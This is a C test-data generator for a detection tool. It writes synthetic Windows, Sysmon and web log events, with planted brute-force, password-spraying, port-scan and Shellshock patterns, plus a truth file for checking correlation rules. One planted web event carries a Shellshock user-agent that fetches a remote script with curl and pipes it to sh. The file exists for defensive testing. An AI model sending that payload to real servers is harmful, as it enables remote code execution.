/* SPDX-License-Identifier: Apache-2.0 */
/*
 * gen_corr.c: a correlation scenario with known ground truth (vigil_gen_corr), for the
 * bundled correlations in rules/sigma/correlation/.
 *
 * Writes N JSON events, one per line, 100 ms of event time apart (@timestamp), and a truth
 * file listing every correlation alert the bundled rules must produce: one line per planted
 * attack, "<correlation id>\t<group value>", sorted.
 *
 * Background traffic (failed and successful Windows logons, inbound Sysmon connections, web
 * requests, outbound connections from Linux hosts) cycles through large pools of users,
 * addresses and hosts so that, by construction, no background group ever reaches a
 * threshold: a background user fails at most once per 40 s (brute force needs 5 in 10 min
 * and then a success of the same user: background users never fail 5 times in 10 min),
 * a source address appears at most once per 10 min for failed logons (spraying needs 5
 * distinct users) and at most once per minute for inbound connections (a scan needs 10
 * ports), and no background web request carries a Shellshock probe.
 *
 * Every PLANT_EVERY events one attack is planted, cycling through the four kinds, each in
 * consecutive events and with its own group value (bf<N>, 198.18.<N>, 198.19.<N>,
 * lnx-web-<N>): brute force (6 failures, then a successful network logon), spraying (one
 * address, 6 accounts), port scan (12 ports), Shellshock probe followed by curl connecting
 * out from the same host.
 *
 * Planted events carry "scenario":"attack-<k>": a key that keeps each attack's events
 * together (and in order) when they are spread over Kafka partitions (vigil replay
 * --key-field scenario).
 *
 * Usage: vigil_gen_corr EVENTS OUT.jsonl TRUTH.tsv [PLANT_EVERY]
 */
#include "base/timefmt.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define T0_MS         1795996800000LL /* 2026-11-30T00:00:00Z */
#define ID_BRUTE      "6f0d3a52-51a4-4f3e-9c39-1f6e3f3f8a03"
#define ID_SPRAY      "6f0d3a52-51a4-4f3e-9c39-1f6e3f3f8a05"
#define ID_SCAN       "6f0d3a52-51a4-4f3e-9c39-1f6e3f3f8a06"
#define ID_SHELLSHOCK "6f0d3a52-51a4-4f3e-9c39-1f6e3f3f8a08"

typedef struct gen {
    FILE *out;
    char tag[64];            /* ",\"scenario\":\"attack-N\"" while planting attack N, else "" */
    unsigned long long i, n; /* events written, wanted */
    unsigned long long fails, oks, conns, webs, outs;
} gen;

/* ISO 8601 UTC of event i's time. */
static void when(unsigned long long i, char *buf, size_t cap)
{
    vg_time_format(T0_MS + (long long)i * 100, buf, cap);
}

static void logon(gen *g, int eid, const char *user, const char *ip, int type)
{
    char t[64];
    when(g->i++, t, sizeof(t));
    fprintf(g->out,
            "{\"@timestamp\":\"%s\",\"Channel\":\"Security\",\"EventID\":%d,\"Computer\":"
            "\"DC01\",\"TargetUserName\":\"%s\",\"TargetDomainName\":\"CORP\",\"IpAddress\":"
            "\"%s\",\"LogonType\":%d%s}\n",
            t, eid, user, ip, type, g->tag);
}

static void inbound(gen *g, const char *src, int port)
{
    char t[64];
    when(g->i++, t, sizeof(t));
    fprintf(g->out,
            "{\"@timestamp\":\"%s\",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
            "\"EventID\":3,\"Computer\":\"SRV-FILE01\",\"Image\":\"System\",\"Protocol\":\"tcp\","
            "\"Initiated\":\"false\",\"SourceIp\":\"%s\",\"SourcePort\":49152,\"DestinationIp\":"
            "\"10.20.5.30\",\"DestinationPort\":%d%s}\n",
            t, src, port, g->tag);
}

static void web(gen *g, const char *host, const char *ua)
{
    char t[64];
    when(g->i++, t, sizeof(t));
    fprintf(g->out,
            "{\"@timestamp\":\"%s\",\"s-computername\":\"%s\",\"cs-method\":\"GET\","
            "\"cs-uri-stem\":\"/cgi-bin/status\",\"cs-uri-query\":\"-\",\"c-ip\":\"203.0.113.9\","
            "\"cs-user-agent\":\"%s\",\"cs-referer\":\"-\",\"sc-status\":200%s}\n",
            t, host, ua, g->tag);
}

static void outbound(gen *g, const char *host, const char *image)
{
    char t[64];
    when(g->i++, t, sizeof(t));
    fprintf(g->out,
            "{\"@timestamp\":\"%s\",\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":3,"
            "\"Computer\":\"%s\",\"Image\":\"%s\",\"User\":\"www-data\",\"Protocol\":\"tcp\","
            "\"Initiated\":\"true\",\"SourceIp\":\"10.20.6.10\",\"DestinationIp\":\"192.0.2.80\","
            "\"DestinationPort\":443%s}\n",
            t, host, image, g->tag);
}

static void background(gen *g)
{
    char a[48], b[48];
    switch (g->i % 5) {
    case 0:
    case 1: { /* failed logon: 100,000 users, 60,000 addresses in rotation */
        unsigned long long k = g->fails++;
        snprintf(a, sizeof(a), "user%05llu", k % 100000);
        snprintf(b, sizeof(b), "10.%llu.%llu.%llu", k % 60000 / 65536, k % 60000 / 256 % 256,
                 k % 60000 % 256);
        logon(g, 4625, a, b, 3);
        break;
    }
    case 2: { /* successful logon */
        unsigned long long k = g->oks++;
        snprintf(a, sizeof(a), "user%05llu", (k * 7919) % 100000);
        logon(g, 4624, a, "10.30.0.1", 3);
        break;
    }
    case 3: { /* inbound connection: 20,000 sources in rotation */
        unsigned long long k = g->conns++;
        snprintf(a, sizeof(a), "172.16.%llu.%llu", k % 20000 / 256, k % 20000 % 256);
        inbound(g, a, (int)(1024 + k % 50000));
        break;
    }
    default: /* a web request, or an outbound connection from a host never probed */
        if (g->webs++ % 2 == 0) {
            web(g, "lnx-web-bg", "Mozilla/5.0 (X11; Linux x86_64) Firefox/132.0");
        } else {
            snprintf(a, sizeof(a), "lnx-app-%llu", g->outs++ % 1000);
            outbound(g, a, "/usr/bin/curl");
        }
        break;
    }
}

/* Plant attack number k; its truth line goes to truth. */
static void plant(gen *g, unsigned long long k, FILE *truth)
{
    char a[48], b[48];
    unsigned long long n = k / 4;
    snprintf(g->tag, sizeof(g->tag), ",\"scenario\":\"attack-%llu\"", k);
    switch (k % 4) {
    case 0:
        snprintf(a, sizeof(a), "bf%llu", n);
        snprintf(b, sizeof(b), "198.20.%llu.%llu", n / 256 % 256, n % 256);
        for (int j = 0; j < 6; j++)
            logon(g, 4625, a, b, 3);
        logon(g, 4624, a, b, 10);
        fprintf(truth, "%s\t%s\n", ID_BRUTE, a);
        break;
    case 1:
        snprintf(b, sizeof(b), "198.18.%llu.%llu", n / 256 % 256, n % 256);
        for (int j = 0; j < 6; j++) {
            snprintf(a, sizeof(a), "sprayed%llu_%d", n, j);
            logon(g, 4625, a, b, 3);
        }
        fprintf(truth, "%s\t%s\n", ID_SPRAY, b);
        break;
    case 2: {
        static const int ports[12] = {21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 443, 445};
        snprintf(b, sizeof(b), "198.19.%llu.%llu", n / 256 % 256, n % 256);
        for (int j = 0; j < 12; j++)
            inbound(g, b, ports[j]);
        fprintf(truth, "%s\t%s\n", ID_SCAN, b);
        break;
    }
    default:
        snprintf(a, sizeof(a), "lnx-web-%llu", n);
        web(g, a, "() { :; }; /bin/bash -c 'curl -s http://203.0.113.9/x.sh | sh'");
        outbound(g, a, "/usr/bin/curl");
        fprintf(truth, "%s\t%s\n", ID_SHELLSHOCK, a);
        break;
    }
    g->tag[0] = '\0';
}

int main(int argc, char **argv)
{
    if (argc < 4) {
        fprintf(stderr, "usage: vigil_gen_corr EVENTS OUT.jsonl TRUTH.tsv [PLANT_EVERY]\n");
        return 2;
    }
    gen g;
    memset(&g, 0, sizeof(g));
    g.n = strtoull(argv[1], NULL, 10);
    unsigned long long every = argc > 4 ? strtoull(argv[4], NULL, 10) : 5000;
    if (every < 100)
        every = 100;
    g.out = fopen(argv[2], "w");
    FILE *truth = fopen(argv[3], "w");
    if (!g.out || !truth) {
        fprintf(stderr, "vigil_gen_corr: cannot write the output files\n");
        return 1;
    }
    unsigned long long planted = 0;
    while (g.i < g.n) {
        if (g.i / every >= planted && g.i + 16 < g.n)
            plant(&g, planted++, truth);
        else
            background(&g);
    }
    fclose(g.out);
    fclose(truth);
    fprintf(stderr, "vigil_gen_corr: %llu events, %llu attacks planted\n", g.i, planted);
    return 0;
}
